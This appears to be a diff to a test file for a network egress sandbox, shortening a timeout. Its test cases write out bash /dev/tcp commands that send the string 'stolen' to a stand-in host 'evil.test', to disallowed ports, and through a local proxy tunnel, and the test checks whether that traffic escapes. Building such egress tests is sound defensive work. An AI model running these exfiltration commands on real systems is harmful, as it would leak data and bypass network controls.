@@ -56,7 +56,7 @@ _RAW = '\n[[egress]]\nhost = "files.test"\nscheme = "tcp"\nport = 9001\n'
 
 
 def _talk(host: str, port: int, text: str) -> str:
-    return f"bash -c 'exec 3<>/dev/tcp/{host}/{port} && printf {text} >&3 && timeout 5 cat <&3'"
+    return f"bash -c 'exec 3<>/dev/tcp/{host}/{port} && printf {text} >&3 && timeout 2 cat <&3'"
 
 
 _CANARY = f'\n[[egress]]\nhost = "files.test"\nmethods = ["GET", "POST"]\npaths = ["/**"]\n\n[canary.production]\nvalue = "{_PLANTED}"\n'
@@ -80,7 +80,7 @@ ALL = (
             _talk(HOSTS["evil.test"], 9001, "stolen"),
             _talk("files.test", 4444, "stolen"),
             _talk("files.test", 8080, "stolen"),
-            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128 && printf \"CONNECT evil.test:9001 HTTP/1.1\\r\\nHost: evil.test:9001\\r\\n\\r\\nstolen\" >&3 && timeout 5 cat <&3'",
+            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128 && printf \"CONNECT evil.test:9001 HTTP/1.1\\r\\nHost: evil.test:9001\\r\\n\\r\\nstolen\" >&3 && timeout 2 cat <&3'",
         ),
         lambda seen: any(
             record.kind == "tcp" and b"stolen" in record.data and (record.dest, record.port) != (HOSTS["files.test"], 9001) for record in seen.records
